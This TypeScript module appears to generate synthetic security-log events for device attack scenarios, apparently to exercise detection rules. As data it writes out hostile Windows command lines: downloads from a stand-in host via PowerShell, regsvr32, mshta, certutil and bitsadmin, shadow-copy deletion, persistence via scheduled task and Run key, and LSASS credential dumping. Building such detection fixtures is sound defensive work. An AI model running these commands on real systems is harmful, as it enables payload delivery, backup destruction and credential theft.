/** Attack scenarios on devices: macros, proxies, persistence, theft, ransom. */
import type { ScenarioContext, Scenario } from "./scenario.ts";

const secondMs = 1_000;
const minuteMs = 60_000;

/** Emits an endpoint alert with its evidence: device, user, file. */
function addAlert(
  context: ScenarioContext,
  offsetMs: number,
  title: string,
  facts: string,
  fileName: string,
): void {
  const bits = context.random.nextBits();
  const fields = { subject: title, commandLine: facts, file: context.getFile(fileName), bits };
  context.emit("AlertInfo", offsetMs, { ...fields, action: "Alert" });
  for (const entity of ["Machine", "User", "File"])
    context.emit("AlertEvidence", offsetMs, { ...fields, action: entity });
}

const macro: Scenario = {
  name: "a macro starts PowerShell, which fetches a program",
  hours: 6,
  lengthMs: 10 * minuteMs,
  tables: [
    "DeviceProcessEvents",
    "DeviceNetworkEvents",
    "DeviceFileEvents",
    "AlertInfo",
    "AlertEvidence",
  ],
  emit: (context) => {
    const { getFile, emit } = context;
    const [word, shell, payload] = [
      getFile("winword.exe"),
      getFile("powershell.exe"),
      getFile("payload.exe"),
    ];
    const command =
      "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA";
    const download = `powershell.exe -c "(New-Object Net.WebClient).DownloadFile('http://cdn.paste.example/a.png','C:\\Users\\Public\\payload.exe')"`;
    const openCommand = String.raw`"WINWORD.EXE" /n "C:\Users\Public\Documents\invoice.docm"`;
    emit("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: shell,
      commandLine: command,
      by: word,
      byCommandLine: openCommand,
    });
    emit("DeviceProcessEvents", 2 * secondMs, {
      action: "ProcessCreated",
      file: shell,
      commandLine: download,
      by: shell,
      byCommandLine: command,
      byParent: word,
    });
    emit("DeviceNetworkEvents", 3 * secondMs, {
      action: "ConnectionSuccess",
      by: shell,
      byCommandLine: download,
      byParent: word,
      subject: "http://cdn.paste.example/a.png",
      remoteIp: "192.0.2.66",
      remotePort: 80,
    });
    emit("DeviceFileEvents", 5 * secondMs, {
      action: "FileCreated",
      file: payload,
      by: shell,
      byCommandLine: download,
      byParent: word,
      subject: "http://cdn.paste.example/a.png",
    });
    emit("DeviceProcessEvents", 9 * secondMs, {
      action: "ProcessCreated",
      file: payload,
      commandLine: String.raw`C:\Users\Public\payload.exe`,
      by: shell,
      byCommandLine: download,
      byParent: word,
    });
    addAlert(
      context,
      4 * minuteMs,
      "Suspicious PowerShell command line",
      'Execution|Medium|["T1059.001"]',
      "payload.exe",
    );
  },
};

const proxies = [
  ["regsvr32.exe", "regsvr32.exe /s /n /u /i:http://cdn.paste.example/x.sct scrobj.dll"],
  ["mshta.exe", "mshta.exe http://cdn.paste.example/y.hta"],
  [
    "rundll32.exe",
    String.raw`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication";document.write()`,
  ],
  [
    "certutil.exe",
    String.raw`certutil.exe -urlcache -split -f http://cdn.paste.example/z.txt C:\Users\Public\loader.dll`,
  ],
  [
    "bitsadmin.exe",
    String.raw`bitsadmin.exe /transfer job http://cdn.paste.example/w.exe C:\Users\Public\updater_x.exe`,
  ],
] as const;

const proxy: Scenario = {
  name: "a signed program runs what it should not",
  hours: 8,
  lengthMs: minuteMs,
  tables: ["DeviceProcessEvents", "DeviceNetworkEvents", "DeviceImageLoadEvents"],
  emit: ({ random, getFile, emit }) => {
    const [name, commandLine] = random.pick(proxies);
    const cmd = getFile("cmd.exe");
    emit("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: getFile(name),
      commandLine,
      by: cmd,
      byCommandLine: "cmd.exe /c start",
    });
    emit("DeviceNetworkEvents", secondMs, {
      action: "ConnectionSuccess",
      by: getFile(name),
      byCommandLine: commandLine,
      byParent: cmd,
      subject: "http://cdn.paste.example/",
      remoteIp: "192.0.2.66",
      remotePort: 80,
    });
    emit("DeviceImageLoadEvents", 2 * secondMs, {
      action: "ImageLoaded",
      file: getFile("loader.dll"),
      by: getFile(name),
      byCommandLine: commandLine,
      byParent: cmd,
    });
  },
};

const administrator: Scenario = {
  name: "somebody becomes a local administrator",
  hours: 12,
  lengthMs: minuteMs,
  tables: ["DeviceProcessEvents", "DeviceEvents"],
  emit: ({ organization, random, getFile, emit }) => {
    const newAdministrator = random.pick(organization.users);
    const command = `net.exe localgroup administrators ${newAdministrator.domain}\\${newAdministrator.name} /add`;
    emit("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: getFile("net.exe"),
      commandLine: command,
      by: getFile("cmd.exe"),
    });
    emit("DeviceEvents", secondMs, {
      action: "UserAccountAddedToLocalGroup",
      by: getFile("net.exe"),
      byCommandLine: command,
      byParent: getFile("cmd.exe"),
      set: {
        FileName: "",
        FolderPath: "",
        SHA1: "",
        SHA256: "",
        MD5: "",
        FileSize: null,
        AccountName: newAdministrator.name,
        AccountDomain: newAdministrator.domain,
        AccountSid: newAdministrator.sid,
        AdditionalFields: JSON.stringify({
          GroupName: "Administrators",
          GroupDomainName: "Builtin",
          GroupSid: "S-1-5-32-544",
        }),
      },
    });
  },
};

const ransom: Scenario = {
  name: "files are renamed by the hundred and shadow copies deleted",
  hours: 3,
  lengthMs: 10 * minuteMs,
  tables: ["DeviceProcessEvents", "DeviceFileEvents", "AlertInfo", "AlertEvidence"],
  emit: (context) => {
    const { organization, device, random, getFile, emit } = context;
    const by = getFile("svch0st.exe");
    const bits = random.nextBits();
    emit("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: getFile("vssadmin.exe"),
      commandLine: "vssadmin.exe delete shadows /all /quiet",
      by,
    });
    for (let index = 0; index < 120; index += 1) {
      const document = random.pick(organization.documents);
      // One process does all of it, within two adjacent slots of five minutes.
      emit("DeviceFileEvents", secondMs + index * 200, {
        action: "FileRenamed",
        file: document,
        by,
        byCommandLine: String.raw`C:\Users\Public\svch0st.exe --go`,
        bits,
        set: {
          ReportId: BigInt(bits % 1_000_000) + BigInt(index),
          FileName: `${index}-${document.name}.locked`,
          FolderPath: `C:\\Shares\\${device.group}\\${index}-${document.name}.locked`,
          PreviousFileName: `${index}-${document.name}`,
        },
      });
    }
    addAlert(
      context,
      minuteMs,
      "File backups were deleted",
      'Impact|Medium|["T1490"]',
      "vssadmin.exe",
    );
    addAlert(
      context,
      5 * minuteMs,
      "Ransomware behavior in the file system",
      'Impact|High|["T1486"]',
      "svch0st.exe",
    );
  },
};

const persistence: Scenario = {
  name: "a task and a Run key keep a program alive",
  hours: 12,
  lengthMs: minuteMs,
  tables: ["DeviceProcessEvents", "DeviceRegistryEvents", "DeviceEvents"],
  emit: ({ getFile, emit }) => {
    const path = String.raw`C:\Users\Public\updater_x.exe`;
    emit("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: getFile("schtasks.exe"),
      commandLine: `schtasks.exe /create /sc minute /mo 5 /tn Updater /tr ${path} /f`,
      by: getFile("cmd.exe"),
    });
    emit("DeviceEvents", 400, {
      action: "ScheduledTaskCreated",
      by: getFile("schtasks.exe"),
      set: { AdditionalFields: JSON.stringify({ TaskName: "\\Updater", TaskContent: path }) },
    });
    emit("DeviceRegistryEvents", secondMs, {
      action: "RegistryValueSet",
      by: getFile("updater_x.exe"),
      subject: String.raw`HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`,
      commandLine: path,
      set: { RegistryValueName: "Updater" },
    });
  },
};

const theft: Scenario = {
  name: "passwords are read out of memory",
  hours: 24,
  lengthMs: 5 * minuteMs,
  tables: ["DeviceProcessEvents", "DeviceEvents", "DeviceFileEvents", "AlertInfo", "AlertEvidence"],
  emit: (context) => {
    const { getFile, emit } = context;
    const tool = getFile("mimidump.exe");
    const command = String.raw`mimidump.exe privilege::debug sekurlsa::logonpasswords exit`;
    emit("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: tool,
      commandLine: command,
      by: getFile("cmd.exe"),
    });
    emit("DeviceEvents", secondMs, {
      action: "OpenProcessApiCall",
      file: getFile("lsass.exe"),
      by: tool,
      byCommandLine: command,
    });
    emit("DeviceProcessEvents", 3 * secondMs, {
      action: "ProcessCreated",
      file: getFile("rundll32.exe"),
      commandLine: String.raw`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Windows\Temp\lsass.dmp full`,
      by: getFile("cmd.exe"),
    });
    emit("DeviceFileEvents", 4 * secondMs, {
      action: "FileCreated",
      file: tool,
      by: getFile("rundll32.exe"),
      set: { FileName: "lsass.dmp", FolderPath: String.raw`C:\Windows\Temp\lsass.dmp` },
    });
    addAlert(
      context,
      2 * minuteMs,
      "Malicious credential theft tool execution detected",
      'CredentialAccess|High|["T1003.001"]',
      "mimidump.exe",
    );
  },
};

/** Scenarios on devices. */
export const intrusions: readonly Scenario[] = [
  macro,
  proxy,
  administrator,
  ransom,
  persistence,
  theft,
];
